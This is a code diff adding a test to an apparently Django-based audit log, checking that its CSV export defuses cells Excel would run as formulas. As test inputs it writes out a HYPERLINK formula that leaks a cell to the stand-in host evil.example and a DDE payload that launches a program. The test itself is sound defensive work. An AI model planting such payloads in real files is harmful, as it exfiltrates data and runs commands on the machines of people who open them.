@@ -142,3 +142,26 @@ def test_the_person_filter_finds_reads_of_their_household_and_its_cases(client, 
     page = client.get(reverse("audit:list"), {"person": family.son.pk})
     actions = [event.action for event in page.context["page"].object_list]
     assert "household.viewed" in actions and "case.viewed" in actions
+
+
+def test_the_export_defuses_cells_excel_would_run_as_formulas(client, town) -> None:
+    """A name or a break-the-glass reason that starts with = + - @ must not become a formula in Excel."""
+    person = make_person(town, family_name='=HYPERLINK("http://evil.example/?"&A1,"開く")', given_name="花子")
+    record_audit_event(
+        "emergency.access_started",
+        acting_user=town.users["caseworker_north"],
+        obj=person,
+        note="@SUM(1+1)*cmd|' /C calc'!A0",
+    )
+    record_audit_event("test.signs", acting_user=town.users["caseworker_north"], obj=person, note="-2+3")
+    record_audit_event("test.signs", acting_user=town.users["caseworker_north"], obj=person, note="+81 90")
+    client.force_login(town.users["auditor"])
+    response = client.get(reverse("audit:export"), {"person": person.pk})
+    body = b"".join(response.streaming_content).decode("utf-8")
+    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
+    assert "'=HYPERLINK(" in "".join(cells)
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
+    assert {"'-2+3", "'+81 90"} <= set(cells)
+    assert str(person.pk) in cells  # numbers stay numbers
